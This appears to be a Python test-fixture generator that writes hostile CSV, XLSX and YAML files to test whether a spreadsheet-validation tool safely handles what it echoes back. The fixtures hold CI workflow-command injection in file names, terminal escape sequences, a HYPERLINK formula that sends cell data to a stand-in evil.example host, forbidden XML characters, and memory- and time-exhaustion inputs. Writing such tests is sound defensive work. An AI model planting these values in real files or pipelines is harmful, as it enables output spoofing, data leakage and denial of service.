"""The hostile corpus, part two (issue 18): inputs that attack what stdcheck writes *after* reading —
file names and cell values that would become workflow commands, terminal escapes, formulas or broken XML —
and inputs that made a reader abort. Generated at test time, never committed.

    python tests/corpus/hostile.py OUT_DIR        # writes every file into OUT_DIR, prints the list
"""
from __future__ import annotations

import os
import re
import sys
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from tests.corpus.make_corpus import _csv, good_rows, raw_xlsx, sheet_xml  # noqa: E402

# a line break and a workflow command in a file name; a name that starts with one
INJECT_NAME = "x\n::error file=a.py,line=1::pwned by name"
LEAD_NAME = "::warning::lead"
# what a value may carry: terminal control (OSC title, colour, BEL), rich markup, a workflow command
ESCAPES = "\x1b]0;pwned\x07\x1b[31m红[/bold][link=http://evil.example]点[/link]\n::error::pwned by value\r"
FORMULA = '  =HYPERLINK("http://evil.example/"&B3,"点击")  '
XML_BAD = "\ufffe\uffff]]>"
# a valid value of every other element: the row's findings come from the hostile cells only
NAME_COL, BASIS_COL, DEPT_COL = 0, 3, 5


def _rows(n: int = 5):
    header, rows = good_rows(n)
    return header, [list(r) for r in rows]


def build(out: Path) -> dict[str, Path]:
    """Write the hostile corpus into `out`; returns {case: path}."""
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    files: dict[str, Path] = {}
    header, rows = _rows()

    def put(case: str, name: str, data) -> Path:
        p = out / name
        if callable(data):
            data(p)
        else:
            p.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
        files[case] = p
        return p

    bad = [r[:] for r in rows]
    bad[0][1] = "0001"                                           # a finding in a file with a hostile name
    put("inject_name", INJECT_NAME + ".csv", _csv([header, *bad]))
    put("lead_name", LEAD_NAME + ".csv", _csv([header, *bad]))
    esc = [r[:] for r in rows]
    esc[0][NAME_COL] = "甲" + ESCAPES                           # echoed in messages
    esc[1][1] = ESCAPES                                          # a bad code: quoted in the message
    esc[2][DEPT_COL] = ESCAPES                                   # a department in --stats
    esc[3][4] = ESCAPES                                          # a level label
    put("escapes_csv", "escapes.csv", _csv([header, *esc]))
    in_xml = [[re.sub("[\x00-\x1f]", lambda m: f"_x{ord(m.group()):04X}_", v) for v in r] for r in esc]  # as Excel stores them
    put("escapes_xlsx", "escapes.xlsx", lambda p: raw_xlsx(p, [("基本目录", sheet_xml([header, *in_xml]), "visible")]))
    formula = [r[:] for r in rows]
    formula[1][BASIS_COL] = FORMULA                              # trimmed by fix
    formula[2][NAME_COL] = "=1+2"                                # already formula-like text
    formula[3][NAME_COL] = "@SUM(A1)"
    put("formula_csv", "formula.csv", _csv([header, *formula]))
    put("formula_xlsx", "formula.xlsx", lambda p: raw_xlsx(p, [("基本目录", sheet_xml([header, *formula]), "visible")]))
    xml_rows = [r[:] for r in rows]
    xml_rows[0][NAME_COL] = "甲" + XML_BAD
    xml_rows[1][1] = "0001" + XML_BAD
    put("xml_csv", "xml_forbidden.csv", _csv([header, *xml_rows]))
    put("xml_yaml", "xml_forbidden.yaml", 'matters:\n  - 事项名称: "甲\\0\\ufffe\\uffff]]>"\n    基本编码: "0001"\n')
    # one value far away: the parser would allocate rows x columns (XFD1048576: 512 GB)
    far = sheet_xml([header, *rows]).replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>远</t></is></c></row></sheetData>')
    put("far_cell", "far_cell.xlsx", lambda p: raw_xlsx(p, [("基本目录", far, "visible")]))
    sparse = sheet_xml([header, *rows]).replace(
        "</sheetData>", '<row r="200000"><c r="GZ200000" t="inlineStr"><is><t>远</t></is></c></row></sheetData>')
    put("sparse_far_cell", "sparse_far_cell.xlsx", lambda p: raw_xlsx(p, [("基本目录", sparse, "visible")]))
    # styled empty cells far away are not values: read as usual
    styled = sheet_xml([header, *rows]).replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576" s="0"/></row></sheetData>')
    put("styled_far_cell", "styled_far_cell.xlsx", lambda p: raw_xlsx(p, [("基本目录", styled, "visible")]))
    # a lone surrogate (YAML "\ud800") and a file name that is not UTF-8
    put("surrogate_yaml", "surrogate.yaml", 'matters:\n  - 事项名称: "固定资产投资项目节能审查\\ud800"\n'
                                            '    基本编码: "000104002000"\n    事项类型: 行政许可\n')
    name = os.fsdecode(b"non_utf8_\xff\xfe.csv")
    put("non_utf8_name", name, _csv([header, *bad]))
    # openpyxl warns (UserWarning) about the data-validation extension while annotating this one
    ext = sheet_xml([header, *bad]).replace(
        "</worksheet>", '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}" '
        'xmlns:x14="http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"><x14:dataValidations count="0"/>'
        '</ext></extLst></worksheet>')
    put("openpyxl_warning", "dv_extension.xlsx", lambda p: raw_xlsx(p, [("基本目录", ext, "visible")]))
    # csv.Sniffer is quadratic on this sample (`,"` repeated): the delimiter is counted instead
    text = _csv([header, *rows])
    put("sniffer_quadratic", "sniffer_quadratic.csv", text + ',"' * 8000 + "\n")
    # reading limits apply before a line is split: one 3 MB line, a header of 20,000 columns
    put("long_line", "long_line.csv", text + "长" * (3 << 20) + "\n" + text.split("\n", 1)[1])
    put("wide_header", "wide_header.csv", ",".join(["列"] * 20_000) + "\n" + text)
    # 500 unknown columns: 20 findings and one summary, not 500
    put("many_unknown_columns", "many_unknown_columns.csv",
        _csv([header + [f"未知列{i}" for i in range(500)], *[r + [""] * 500 for r in rows]]))
    # 300,000 styled empty rows after the data: openpyxl (annotate, fix) would load every one of them
    styled_rows = sheet_xml([header, *bad]).replace("</sheetData>", "".join(
        f'<row r="{n}"><c r="A{n}" s="0"/><c r="B{n}" s="0"/></row>' for n in range(len(bad) + 2, 300_001))
        + "</sheetData>")
    put("styled_empty_rows", "styled_empty_rows.xlsx", lambda p: raw_xlsx(p, [("基本目录", styled_rows, "visible")]))
    return files


if __name__ == "__main__":
    for case, path in sorted(build(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-out")).items()):
        print(f"{path.stat().st_size:>10}  {case:<18} {path.name!r}")
